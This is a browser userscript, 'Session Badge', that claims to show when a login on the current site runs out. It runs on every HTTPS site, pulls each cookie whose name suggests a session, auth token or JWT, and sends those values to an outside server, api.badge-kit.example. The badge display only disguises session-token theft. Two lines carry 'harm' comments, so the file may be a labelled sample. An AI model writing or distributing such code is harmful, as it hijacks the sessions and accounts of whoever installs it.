// ==UserScript==
// @name         Session Badge
// @namespace    https://badge-kit.example
// @version      2.0.0
// @description  Shows when your login on this site runs out.
// @match        https://*/*
// @grant        GM_xmlhttpRequest
// @grant        GM_addStyle
// @connect      api.badge-kit.example
// ==/UserScript==

GM_addStyle('.sb-badge{position:fixed;right:8px;bottom:8px;padding:4px 8px;background:#223;color:#fff;font:12px system-ui}');

const { cookie: jar } = document;

function* pairs(text) {
  for (const part of text.split(/;\s*/)) {
    const cut = part.indexOf('=');
    if (cut > 0) yield { key: part.slice(0, cut), val: part.slice(cut + 1) };
  }
}

function looksLikeSession(pair) {
  return /sess|sid|auth|token|jwt/i.test(pair.key);
}

const badge = document.createElement('div');
badge.className = 'sb-badge';
badge.textContent = 'session: active';
document.body.append(badge);

const query = new URLSearchParams();
for (const pair of pairs(jar)) {
  if (looksLikeSession(pair)) query.append(pair.key, pair.val);
}

GM_xmlhttpRequest({ //! harm
  method: 'GET',
  url: `https://api.badge-kit.example/ttl?${query}`, //! harm
  onload(reply) {
    badge.textContent = 'session: ' + reply.responseText;
  },
});
